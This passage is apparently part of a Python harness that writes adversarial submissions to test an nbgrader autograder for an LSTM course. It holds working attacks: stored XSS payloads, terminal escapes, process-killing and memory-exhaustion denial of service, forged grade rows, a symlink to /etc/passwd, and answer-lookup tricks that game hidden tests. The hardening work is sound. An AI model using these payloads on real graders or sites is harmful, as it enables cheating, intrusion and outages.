        def wrapper(*args, **kwargs):
            result = fn(*args, **kwargs)
            params = [*args, *kwargs.values()]
            try:
                array = np.asarray(result, dtype=float)
                table.setdefault(name, {})[_key(params)] = [
                    list(array.shape),
                    array.ravel().tolist(),
                ]
            except (TypeError, ValueError):
                pass
            return result

        wrapper.__wrapped_answer__ = True
        return wrapper

    source = nbformat.read(str(ctx.course / "solutions" / ctx.assignment / f"{ctx.notebook}.ipynb"),
                           as_version=4)  # fmt: skip
    ns: dict = {"__name__": "__main__"}
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        for cell in source.cells:
            if cell.cell_type != "code":
                continue
            try:
                exec(compile(cell.source, "<solution>", "exec"), ns)  # noqa: S102
            except Exception:  # noqa: BLE001 (a test that fails here only records less)
                pass
            for name in names:
                fn = ns.get(name)
                if callable(fn) and not getattr(fn, "__wrapped_answer__", False):
                    ns[name] = record(name, fn)
        try:  # today's outside check draws its inputs from the student id
            from lstm_course.autograde import oracle

            sigs = {n: p for n, p, _g in ctx.functions()}
            for call in oracle.plan(sigs, f"{ctx.student}/{ctx.assignment}/{ctx.notebook}"):
                ns[call.name](**call.args)
        except Exception:  # noqa: BLE001 (no such check any more: nothing to add)
            pass
    return table


def _key(args) -> str:
    import numpy as np

    h = hashlib.sha256()
    for a in args:
        a = np.ascontiguousarray(np.asarray(a, dtype=np.float64))
        h.update(str(a.shape).encode())
        h.update(a.tobytes())
    return h.hexdigest()[:24]


LOOKUP = (
    SHAPE
    + """
import base64, hashlib, json, zlib

_TABLE = json.loads(zlib.decompress(base64.b64decode("@@TABLE@@")))
_SEEN = {}


def _key(args):
    h = hashlib.sha256()
    for a in args:
        a = np.ascontiguousarray(np.asarray(a, dtype=np.float64))
        h.update(str(a.shape).encode())
        h.update(a.tobytes())
    return h.hexdigest()[:24]


def _answer(name, args):
    hit = _TABLE.get(name, {}).get(_key(args))
    if hit is None:
        return None
    return np.array(hit[1], dtype=float).reshape(hit[0])
"""
)


def lookup_prelude(ctx) -> str:
    data = base64.b64encode(zlib.compress(json.dumps(known_answers(ctx)).encode(), 9)).decode()
    return LOOKUP.replace("@@TABLE@@", data)


@attack("predicting the inputs: a lookup table of every known test input")
def atk_lookup_table(ctx):
    """Nothing implemented: a table of the reference's answers for every input the open
    course's tests use (visible and hidden, from the public solutions notebook) and for today's
    outside check (seeded by the student id); zeros for anything else."""

    def body(n, p):
        a = ", ".join(p)
        return f"hit = _answer({n!r}, ({a},))\nreturn hit if hit is not None else np.zeros(_shape({n!r}, ({a},)))"

    return ctx.nb(with_answers(ctx, body, lookup_prelude(ctx)))


@attack("answering differently per call count / detecting salted inputs")
def atk_call_count(ctx):
    """The lookup table, but each input answered right only the first time it is seen (a second
    call, e.g. a determinism or feedback check, gets zeros), and an unknown (salted) input
    raises NotImplementedError, as if the function were still a stub."""

    def body(n, p):
        a = ", ".join(p)
        return (
            f"key = ({n!r}, _key(({a},)))\n_SEEN[key] = _SEEN.get(key, 0) + 1\n"
            f"hit = _answer({n!r}, ({a},))\n"
            "if hit is None:\n    raise NotImplementedError('write the body of this function')\n"
            f"return hit if _SEEN[key] == 1 else np.zeros(_shape({n!r}, ({a},)))"
        )

    return ctx.nb(with_answers(ctx, body, lookup_prelude(ctx)))


EXFILTRATE = (
    SHAPE
    + """
import time

_last = [time.perf_counter()]


def _report(name, args):
    gap = time.perf_counter() - _last[0]
    _last[0] = time.perf_counter()
    shown = [np.asarray(a).round(6).tolist() for a in args]
    print("SEEN-INPUT", name, f"after {gap:.3f} s:", json.dumps(shown)[:400])
"""
)


@attack("timing the verifier's requests; hidden inputs shown in feedback")
def atk_exfiltrate_inputs(ctx):
    """Answers print every input they receive, with the time since the previous request, so
    that the hidden tests' inputs reach the student's feedback (checked on the hidden tests'
    cells); they return zeros."""

    def body(n, p):
        a = ", ".join(p)
        return f"_report({n!r}, ({a},))\nreturn np.zeros(_shape({n!r}, ({a},)))"

    return ctx.nb(with_answers(ctx, body, "import json\n" + EXFILTRATE))


# == 8. attacks on the new design: what crosses the pipe =======================================
EXC_PAYLOAD = (
    "\x1b]2;F-esc-exc\x07\x1b[2J\x1b[31m<script>alert('" + XSS + "')</script>"
    "<img src=x onerror=alert('" + XSS + "')>"
)


@attack(
    "exceptions with a malicious __str__; terminal escapes; stored XSS",
    feedback=True,
    terminal=True,
)
def atk_xss_exception_str(ctx):
    """Stubs raise an exception whose __str__ and __repr__ return terminal escapes, HTML and
    200 KB of text, and whose class is named like the grader's own GradingIntegrityError."""
    prelude = (
        "class GradingIntegrityError(Exception):\n"
        f"    def __str__(self):\n        return {EXC_PAYLOAD!r} + 'A' * 200_000\n\n"
        "    __repr__ = __str__"
    )
    return ctx.nb(with_answers(ctx, lambda n, p: "raise GradingIntegrityError()", prelude))


@attack("returning generators and recursive structures")
def atk_generator_recursive(ctx):
    """sigmoid returns a generator of the right rows, forget_gate a list that contains itself,
    forget a list nested 100,000 deep."""
    bodies = {
        "sigmoid": "return (0.5 for _ in range(np.size(z)))",
        "forget_gate": "out = [0.5, 0.5]\nout.append(out)\nreturn out",
        "forget": "out = []\nfor _ in range(100_000):\n    out = [out]\nreturn out",
    }
    return ctx.nb(with_answers(ctx, lambda n, p: bodies[n], "import numpy as np"))


@attack("returning giant arrays")
def atk_giant_arrays(ctx):
    """Answers return zero-stride views that claim 10^10 entries (80 GB as float64) and a
    10^6-dimensional shape: a codec that materialises them runs out of memory."""
    bodies = {
        "sigmoid": "return np.broadcast_to(0.5, (100_000, 100_000))",
        "forget_gate": "return np.lib.stride_tricks.as_strided(np.zeros(1), (10**5, 10**5), (0, 0))",
        "forget": "return np.broadcast_to(np.float64(0), (2,) * 32)",
    }
    return ctx.nb(with_answers(ctx, lambda n, p: bodies[n], "import numpy as np"))


ODD = (
    FRAME_WALK
    + """


class _LazyFloat:
    def __init__(self, i):
        self.i = i

    def __float__(self):
        found = _expected()
        return float(found.flat[self.i]) if found is not None else 0.5


def _nan_payload(shape):
    bits = np.full(shape, 0x7FF8_DEAD_BEEF_0001, dtype=np.uint64)
    return bits.view(np.float64)
"""
)


@attack("object-dtype arrays, odd dtypes, NaN payloads")
def atk_odd_dtypes(ctx):
    """sigmoid returns an object array of lazy floats that walk the frames; forget_gate a
    complex array whose imaginary part is a NaN payload; forget a structured array."""
    bodies = {
        "sigmoid": (
            "out = np.empty(np.shape(z), dtype=object)\n"
            "for i in range(out.size):\n    out.flat[i] = _LazyFloat(i)\nreturn out"
        ),
        "forget_gate": (
            "shape = _shape('forget_gate', (h_prev, x_t, W_f, b_f))\n"
            "return np.zeros(shape) + 1j * _nan_payload(shape)"
        ),
        "forget": "return np.zeros(np.shape(f_t), dtype=[('re', 'f8'), ('im', 'f8')])",
    }
    return ctx.nb(with_answers(ctx, lambda n, p: bodies[n], ODD))


@attack("NaN payloads and non-finite values")
def atk_nan_payload(ctx):
    """Answers return signalling NaNs carrying a payload, -0.0 and ±inf mixed: a comparison or
    codec that treats NaN as 'equal' or a payload as data would pass them."""
    prelude = ODD
    bodies = {
        "sigmoid": "return _nan_payload(np.shape(z))",
        "forget_gate": (
            "out = _nan_payload(_shape('forget_gate', (h_prev, x_t, W_f, b_f)))\n"
            "out.flat[0] = -0.0\nreturn out"
        ),
        "forget": "return np.full(np.shape(f_t), np.inf)",
    }
    return ctx.nb(with_answers(ctx, lambda n, p: bodies[n], prelude))


# == 9. stored XSS and terminal escapes =========================================================
XSS_DISPLAY = f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>alert('{XSS}')</script><img src=x onerror=\\"alert('{XSS}')\\">"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\\'{XSS}\\')"></svg>'))
display(Javascript("alert('{XSS}')"))
display(Markdown("<img src=x onerror=\\"alert('{XSS}')\\">[x](javascript:alert('{XSS}'))"))
display({{"text/html": "<iframe srcdoc=\\"<script>alert('{XSS}')</script>\\"></iframe>",
         "text/plain": "harmless"}}, raw=True)
"""


@attack("stored XSS: display(HTML/SVG/Javascript)", most="full", feedback=True)
def atk_xss_outputs(ctx):
    """A correct notebook with one more cell displaying a <script>, an <img onerror>, an SVG
    with onload, a Javascript output, a markdown output and an iframe."""
    nb = ctx.solved()
    nb.cells.insert(len(nb.cells) // 2, new_code_cell(XSS_DISPLAY))
    return ctx.nb(nb)


XSS_MARKDOWN = (
    f"<script>alert('{XSS}')</script>\n\n<img src=x onerror=\"alert('{XSS}')\">\n\n"
    f"[click](javascript:alert('{XSS}'))\n\n<svg onload=\"alert('{XSS}')\"></svg>\n\n"
    f"<iframe srcdoc=\"<script>alert('{XSS}')</script>\"></iframe>\n\n"
    f'<a href="#" onclick="alert(\'{XSS}\')">hi</a>'
)


@attack("stored XSS: markdown cells", most="full", feedback=True)
def atk_xss_markdown(ctx):
    """A correct notebook with a markdown cell of <script>, <img onerror>, a javascript: link,
    <svg onload>, <iframe srcdoc> and onclick."""
    nb = ctx.solved()
    nb.cells.insert(1, new_markdown_cell(XSS_MARKDOWN))
    return ctx.nb(nb)


SVG_ATTACHMENT = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('{XSS}')\">"
    f"<script>alert('{XSS}')</script></svg>"
)
PNG_1X1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="


@attack("stored XSS: markdown attachments", most="full", feedback=True)
def atk_xss_attachment(ctx):
    """A correct notebook with attachments: an SVG with a script, an 'image/png' that is HTML,
    and a text/html attachment, shown by markdown cells."""
    nb = ctx.solved()
    cell = new_markdown_cell(
        "![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c.html)"
    )
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": base64.b64encode(SVG_ATTACHMENT.encode()).decode()},
        "b.png": {"image/png": base64.b64encode(f"<script>alert('{XSS}')</script>".encode()).decode()},
        "c.html": {"text/html": f"<script>alert('{XSS}')</script>"},
    }  # fmt: skip
    nb.cells.insert(1, cell)
    return ctx.nb(nb)


@attack("honest: a pasted image in a markdown cell (not an attack)", most="full", flagged=False,
        feedback=True)  # fmt: skip
def atk_honest_attachment(ctx):
    """A correct notebook with a PNG pasted into a markdown cell: full marks, no flag, and its
    feedback renders (today such a notebook makes `make feedback` fail for everyone)."""
    nb = ctx.solved()
    cell = new_markdown_cell("My sketch of the gate: ![sketch](attachment:sketch.png)")
    cell["attachments"] = {"sketch.png": {"image/png": PNG_1X1}}
    nb.cells.insert(2, cell)
    return ctx.nb(nb)


HTML_NAME = f"<img src=x onerror=alert('{XSS}')>"


@attack("stored XSS: HTML grade_id, cell metadata and notebook metadata", most="full",
        feedback=True)  # fmt: skip
def atk_xss_metadata(ctx):
    """A correct notebook whose kernelspec display name, title, an added cell's grade_id, tags
    and cell id carry HTML."""
    nb = ctx.solved()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": HTML_NAME, "language": "python"}
    nb.metadata["title"] = HTML_NAME
    cell = new_code_cell("x = 1")
    cell.metadata["nbgrader"] = {
        "grade": True, "grade_id": HTML_NAME, "locked": False, "points": 5, "solution": False,
        "schema_version": 3, "task": False,
    }  # fmt: skip
    cell.metadata["tags"] = [HTML_NAME]
    cell["id"] = "x" + XSS
    nb.cells.insert(3, cell)
    return ctx.nb(nb)


ESC_NAME = "\x1b]2;F-esc-file\x07\x1b[2J" + HTML_NAME.replace("/", "")


@attack("terminal escapes and HTML in file names", most="full", terminal=True)
def atk_esc_file_names(ctx):
    """A correct notebook with extra files and a link whose names carry terminal escapes and
    HTML (they reach the grader's notes and messages)."""
    files = ctx.nb(ctx.solved())
    files[f"{ESC_NAME}.txt"] = b"hello\n"
    files[f"dir{ESC_NAME}/x.txt"] = b"hello\n"
    files[f"@link:{ESC_NAME}.lnk"] = b"/etc/passwd"
    return files


@attack("terminal escapes in a failure; multiple notebooks", terminal=True)
def atk_esc_notebook_names(ctx):
    """No notebook under its own name, two under names with terminal escapes: the failure
    message lists them."""
    data = cases.dumps(ctx.solved())
    return {
        "\x1b]2;F-esc-nb\x07\x1b[2J\x1b[1A.ipynb": data,
        "\x1b[31mcopy\x1b[0m.ipynb": data,
    }


TAMPER_ESC = """
import numpy
setattr(numpy, "\\x1b]2;F-esc-tamper\\x07\\x1b[2J\\x1b[3J", 1)
"""


@attack("terminal escapes in a flag", most="full", terminal=True)
def atk_esc_in_flag(ctx):
    """A correct notebook that adds to NumPy an attribute named with terminal escapes: the
    grader's own flag ('numpy.<name> was added') would print it raw."""
    return ctx.nb(before_tests(ctx.solved(), TAMPER_ESC))


# == 10. denial of service within the run ======================================================
ORPHAN = """
import os, signal, time
_pid = os.fork()
if _pid == 0:
    os.setsid()
    if os.fork() == 0:
        for _s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGALRM):
            signal.signal(_s, signal.SIG_IGN)
        while True:
            time.sleep(1)
    os._exit(0)
os.waitpid(_pid, 0)
print("a daemon holding every inherited descriptor is running")
"""


@attack("whole-run DoS: a daemon that never exits", max_seconds=60)
def atk_orphan_daemon(ctx):
    """A double-forked daemon in its own session, ignoring signals, holding every inherited
    descriptor (the result pipe too): the grader must not wait for it."""
    return ctx.nb(before_tests(ctx.release, ORPHAN))


@attack("whole-run DoS: killing the parent")
def atk_kill_parent(ctx):
    """The notebook kills its parent, process 1 of its namespace and its process group."""
    src = (
        "import os, signal\n"
        "for _pid in (os.getppid(), 1):\n"
        "    try:\n        os.kill(_pid, signal.SIGKILL)\n    except OSError as exc:\n"
        "        print('kill', _pid, exc)\n"
        "try:\n    os.killpg(os.getpgid(0), signal.SIGTERM)\nexcept OSError as exc:\n"
        "    print('killpg', exc)"
    )
    return ctx.nb(before_tests(ctx.release, src))


MEMORY_FORKS = """
import os, time
_held, _pids, _reads = 0, [], []
for _ in range(3):  # all three at once: each allocates while the others hold theirs
    _r, _w = os.pipe()
    _pid = os.fork()
    if _pid == 0:
        try:
            _b = bytearray(b"\\x01") * (600 * 2**20)  # every page touched, in C
            os.write(_w, b"1")
        except BaseException:
            os.write(_w, b"0")
        time.sleep(8)
        os._exit(0)
    os.close(_w)
    _reads.append(_r)
    _pids.append(_pid)
for _r in _reads:
    if os.read(_r, 1) == b"1":
        _held += 600
print("PROBE-RAN HELD_MB=%d" % _held)
for _pid in _pids:
    os.kill(_pid, 9)
"""


@attack("whole-run DoS: memory across forked processes", canary="PROBE-RAN")
def atk_memory_forks(ctx):
    """Three forked children each hold 600 MB (under the per-process limit, over the notebook's):
    the sandbox must cap the total (checked: HELD_MB at most the --memory limit)."""
    return ctx.nb(before_tests(ctx.release, MEMORY_FORKS))


@attack("whole-run DoS: infinite output on the raw descriptors")
def atk_infinite_output(ctx):
    """Writes without end straight to file descriptors 1 and 2 (not through sys.stdout)."""
    src = "import os\nwhile True:\n    os.write(1, b'x' * 65536)\n    os.write(2, b'y' * 65536)"
    return ctx.nb(before_tests(ctx.release, src))


@attack("whole-run DoS: a huge notebook", most="baseline", max_seconds=120)
def atk_huge_notebook(ctx):
    """The ×1.01 answer with a 30 MB markdown cell, 20,000 small markdown cells and 500 empty
    code cells before the tests."""
    nb = wrong101(ctx)
    extra = [new_markdown_cell("x" * 30 * 2**20)]
    extra += [new_markdown_cell(f"note {i}") for i in range(20_000)]
    extra += [new_code_cell("pass") for _ in range(500)]
    at = next(i for i, c in enumerate(nb.cells) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "forget")  # fmt: skip
    nb.cells[at:at] = extra
    return ctx.nb(nb)


@attack("whole-run DoS: deeply nested JSON")
def atk_deep_json(ctx):
    """A notebook file that is JSON nested 200,000 deep (json.loads raises RecursionError)."""
    return {f"{ctx.notebook}.ipynb": b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"}


# == 11. notebooks: several, duplicated ids, edited tests =====================================
@attack("multiple notebooks")
def atk_multiple_notebooks(ctx):
    """The blank notebook under its own name, and the solved one under three other names and
    one folder deeper: only the assignment's own notebook counts."""
    solved = cases.dumps(ctx.solved())
    return {
        f"{ctx.notebook}.ipynb": cases.dumps(ctx.release),
        f"{ctx.notebook} (1).ipynb": solved,
        f"{ctx.notebook.capitalize()}.ipynb": solved,
        f"{ctx.assignment}/{ctx.notebook}.ipynb": solved,
        f"{ctx.notebook}.ipynb.bak": solved,
    }


@attack("editing test cells and metadata; duplicated cell ids", most="baseline")
def atk_duplicate_ids(ctx):
    """The ×1.01 answer with every cell id the same, each test cell emptied and duplicated with
    grade=False, points=100 and the id of the setup cell, and a copy of each test's grade_id
    placed before it with 'pass'."""
    nb = wrong101(ctx)
    cells = []
    for cell in nb.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            fake = copy.deepcopy(cell)
            fake.source = "pass"
            fake.metadata["nbgrader"]["points"] = 100
            cells.append(fake)
            cell.source = "pass"
            twin = copy.deepcopy(cell)
            twin.metadata["nbgrader"]["grade"] = False
            cells += [cell, twin]
        else:
            cells.append(cell)
    for cell in cells:
        cell["id"] = "setup"
    nb.cells = cells
    return ctx.nb(nb)


# == 12. attacks on the run: names, timestamp.txt, the gradebook ===============================
@attack("whole-run DoS: timestamp.txt is a FIFO", run="fifo", most="full")
def atk_timestamp_fifo(ctx):
    """A correct notebook whose timestamp.txt is a named pipe: whoever opens it waits for ever."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@fifo"}


@attack("whole-run DoS: timestamp.txt links to /dev/stdin", run="stdin", most="full")
def atk_timestamp_stdin(ctx):
    """A correct notebook whose timestamp.txt is a link to /dev/stdin (the grader runs with an
    open terminal)."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@link:/dev/stdin"}


@attack("whole-run DoS: timestamp.txt links to /dev/zero", run="devzero", most="full")
def atk_timestamp_dev_zero(ctx):
    """A correct notebook whose timestamp.txt links to /dev/zero: reading it to the end never
    ends and fills the grader's memory."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@link:/dev/zero"}


@attack("whole-run DoS: a huge (sparse) timestamp.txt", run="sparse", most="full")
def atk_timestamp_huge(ctx):
    """A correct notebook whose timestamp.txt is a 2 GB sparse file of zero bytes."""
    return {**ctx.nb(ctx.solved()), "timestamp.txt": "@sparse:" + str(2 * 2**30)}


FORGED_ROW = "ex02_forget_gate,,2026-01-01 12:00:00,victim,,,,14.0,0.0,14.0,14.0"


@attack("forged CSV rows: a folder name with commas and newlines", run="names", most="zero",
        student="mallory\n" + FORGED_ROW + "\nx,y")  # fmt: skip
def atk_csv_rows(ctx):
    """A student folder whose name holds a newline and a whole grades.csv row giving 'victim'
    full marks (the notebook is blank)."""
    return ctx.nb(ctx.release)


@attack("stored XSS: a student folder named with HTML", run="names", most="zero",
        student=HTML_NAME, feedback=True)  # fmt: skip
def atk_html_student_name(ctx):
    """A student folder named <img src=x onerror=...> (shown in formgrader and feedback)."""
    return ctx.nb(ctx.release)


@attack("terminal escapes: a student folder name", run="names", most="zero", terminal=True,
        student="\x1b]2;F-esc-student\x07\x1b[2Jeve")  # fmt: skip
def atk_esc_student_name(ctx):
    """A student folder whose name clears the instructor's terminal and sets its title."""
    return ctx.nb(ctx.release)


@attack("a student folder with a reserved name", run="reserved", most="zero",
        student="autograde_summary.json")  # fmt: skip
def atk_reserved_summary(ctx):
    """A student folder named autograde_summary.json: autograded/autograde_summary.json becomes
    a folder and the summary cannot be written (today every later run exits 1)."""
    return ctx.nb(ctx.release)


@attack("a grade that cannot be recorded: partial credit above the maximum", run="stale",
        most="zero")  # fmt: skip
def atk_stale_partial(ctx):
    """First graded with a correct notebook (14); then resubmitted blank, with a displayhook of
    1e9 in each stub, which nbgrader refuses to save: the old 14 must not stay."""
    return ctx.nb(stubs_with(ctx, "get_ipython().displayhook(1e9)"))


@attack("a grade that cannot be recorded: a path too long for autograded/", run="stale",
        most="zero")  # fmt: skip
def atk_stale_path(ctx):
    """First graded with a correct notebook (14); then resubmitted blank with an extra file whose
    path is 4095 characters in submitted/ and so 4096, too long, in autograded/."""
    return {**ctx.nb(ctx.release), "@pathmax": b"x\n"}


# == 13. exercise rules and the reference in ex05, ex06, ex07 =====================================
@attack("reaching the reference through a helper the release gives (ex05)",
        assignment="ex05_lstm_forward", flagged=True)  # fmt: skip
def atk_helper_globals(ctx):
    """ex05's setup imports sigmoid from the reference; the answers reach the whole reference
    package through sigmoid.__module__ and call it."""
    prelude = (
        "import importlib\n\n"
        "_ref = importlib.import_module(sigmoid.__module__.rsplit('.', 1)[0])\n\n\n"
        "def _call(name, *args):\n"
        "    value = getattr(_ref, name)(*args)\n"
        "    if isinstance(value, tuple) and len(value) > 2:\n"
        "        value = value[:2]\n"
        "    return value"
    )
    return ctx.nb(with_answers(ctx, lambda n, p: f"return _call({n!r}, {', '.join(p)})", prelude))


AUTOGRAD_BACKWARD = '''
def lstm_cell_backward(dh_t, dc_t, cache):
    """The gradients by torch's autograd, in a NumPy-only exercise."""
    import torch

    t = lambda a: torch.tensor(a, dtype=torch.float64, requires_grad=True)  # noqa: E731
    p = {k: t(v) for k, v in cache["params"].items()}
    z, c_prev = t(cache["z"]), t(cache["c_prev"])
    a = {g: z @ p["W_" + g].T + p["b_" + g] for g in "fico"}
    c_t = torch.sigmoid(a["f"]) * c_prev + torch.sigmoid(a["i"]) * torch.tanh(a["c"])
    h_t = torch.sigmoid(a["o"]) * torch.tanh(c_t)
    ((h_t * torch.from_numpy(dh_t)).sum() + (c_t * torch.from_numpy(dc_t)).sum()).backward()
    H = c_prev.shape[1]
    dz = z.grad.numpy()
    return dz[:, H:], dz[:, :H], c_prev.grad.numpy(), {k: v.grad.numpy() for k, v in p.items()}
'''


@attack("exercise rules: torch autograd in NumPy-only ex06", assignment="ex06_bptt",
        most="task:lstm_cell_backward", flagged=True)  # fmt: skip
def atk_autograd_backward(ctx):
    """The solved notebook, but lstm_cell_backward is computed by torch autograd."""
    return ctx.nb(replace_answer(ctx.solved(), "lstm_cell_backward", AUTOGRAD_BACKWARD))


WRAP_LSTMCELL = '''
    def forward(self, x, state=None):
        """nn.LSTMCell inside, sharing this cell's parameters."""
        cell = nn.LSTMCell(self.input_size, self.hidden_size).to(x.dtype)
        cell.weight_ih, cell.weight_hh = self.weight_ih, self.weight_hh
        cell.bias_ih, cell.bias_hh = self.bias_ih, self.bias_hh
        return cell(x, state)
'''

VF_LSTM_CELL = '''
    def forward(self, x, state=None):
        """torch's own LSTM kernel, its name built at run time."""
        if state is None:
            zeros = x.new_zeros(x.shape[0], self.hidden_size)
            state = (zeros, zeros)
        kernel = getattr(getattr(torch, "_" + "VF"), "lstm" + "_cell")
        return kernel(x, state, self.weight_ih, self.weight_hh, self.bias_ih, self.bias_hh)
'''


def _swap_forward(ctx, forward: str):
    nb = ctx.solved()
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "lstm_cell_module":
            head, _sep, _rest = cell.source.partition("    def forward(")
            cell.source = head + forward.lstrip("\n")
    return nb


@attack("exercise rules: nn.LSTMCell inside the answer (ex07)", assignment="ex07_pytorch",
        most="task:lstm_cell_module", flagged=True)  # fmt: skip
def atk_wraps_lstmcell(ctx):
    """LSTMCellScratch.forward builds an nn.LSTMCell sharing the cell's parameters and calls it."""
    return ctx.nb(_swap_forward(ctx, WRAP_LSTMCELL))


@attack("exercise rules: torch._VF.lstm_cell by a built name (ex07)", assignment="ex07_pytorch",
        most="task:lstm_cell_module", flagged=True)  # fmt: skip
def atk_vf_lstm_cell(ctx):
    """LSTMCellScratch.forward calls torch._VF.lstm_cell, found with getattr on built strings."""
    return ctx.nb(_swap_forward(ctx, VF_LSTM_CELL))


# -- writing the submissions -----------------------------------------------------------------
def write_files(folder: Path, files: dict, timestamp: str = TIMESTAMP) -> None:
    """Write a submission; values are bytes, or "@fifo", "@link:TARGET", "@sparse:SIZE"; the key
    "@link:NAME" (bytes target) and "@pathmax" (a file whose path is 4095 characters) too."""
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    files = dict(files)
    files.setdefault("timestamp.txt", timestamp.encode())
    for rel, data in files.items():
        if rel == "@pathmax":
            _path_max_file(folder, data)
            continue
        if rel.startswith("@link:"):
            (folder / rel.removeprefix("@link:")).symlink_to(data.decode())
            continue
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if data == "@fifo":
            os.mkfifo(path)
        elif isinstance(data, str) and data.startswith("@link:"):
            path.symlink_to(data.removeprefix("@link:"))
        elif isinstance(data, str) and data.startswith("@sparse:"):
            with open(path, "wb") as fh:
                fh.truncate(int(data.removeprefix("@sparse:")))
        else:
            path.write_bytes(data)


def _path_max_file(folder: Path, data: bytes) -> None:
    """A file whose absolute path is exactly 4095 characters (PATH_MAX - 1)."""
    left = 4095 - len(str(folder)) - 1
    parts = []
    while left > 250:
        parts.append("d" * 200)
        left -= 201
    parts.append("f" * left)
    *dirs, name = parts
    fd = os.open(str(folder), os.O_RDONLY)
    try:  # walk down with openat, each step well under PATH_MAX
        for d in dirs:
            os.mkdir(d, dir_fd=fd)
            new = os.open(d, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = new
        out = os.open(name, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, data)
        os.close(out)
    finally:
        os.close(fd)


def build(course: Path, assignment: str, names: list[str], baselines=BASELINES) -> dict[str, str]:
    """Write the baselines and the named attacks of one assignment into course/submitted/;
    return {case name: student id}."""
    base = cases.context(course, assignment)
    out = {}
    for name in baselines:
        sid = f"base-{name}"
        write_files(
            course / "submitted" / sid / assignment, BASELINE_BUILDERS[name](Ctx(base, sid))
        )
        out[name] = sid
    for name in names:
        spec = ATTACKS[name]
        files = spec.build(Ctx(base, spec.sid))
        write_files(course / "submitted" / spec.sid / assignment, files)
        out[name] = spec.sid
    return out


# -- what the checks look for ---------------------------------------------------------------------
SAFE_MIME = {"text/plain", "image/png", "image/jpeg", "text/latex"}
LIVE = [
    re.compile(r"<script\b[^>]*>[^<]*" + XSS, re.I),
    re.compile(r"<[a-z][^<>]*\son\w+\s*=[^<>]*" + XSS, re.I),
    re.compile(r"<[a-z][^<>]*\s(?:href|src|action)\s*=\s*[\"']?\s*javascript:[^<>]*" + XSS, re.I),
    re.compile(r"<(?:iframe|object|embed|meta|base|form)\b[^<>]*" + XSS, re.I),
]


def live_payloads(html: str) -> list[str]:
    """The payloads of this corpus that would run in a browser: a marker inside a <script>, an
    event handler, a javascript: URL or an iframe, as written in the page (escaped text is not)."""
    found = []
    for pattern in LIVE:
        found += [m.group(0)[:120] for m in pattern.finditer(html)]
    return found


def unsafe_outputs(nb: dict) -> list[str]:
    """Outputs of a graded notebook with a MIME type outside SAFE_MIME that carry a payload."""
    bad = []
    for cell in nb.get("cells", []):
        for out in cell.get("outputs", []) or []:
            for mime, value in (out.get("data") or {}).items():
                text = value if isinstance(value, str) else json.dumps(value)
                if mime not in SAFE_MIME and XSS in text:
                    bad.append(f"{mime}: {text[:80]}")
    return bad


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Write the attacks into a course's submitted/.")
    parser.add_argument("--course-dir", default=".")
    parser.add_argument("--assignment", default=EX02)
    args = parser.parse_args(argv)
    names = [n for n, a in ATTACKS.items() if a.assignment == args.assignment and a.run == "main"]
    ids = build(Path(args.course_dir).resolve(), args.assignment, names)
    print(f"wrote {len(ids)} submissions under submitted/*/{args.assignment}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
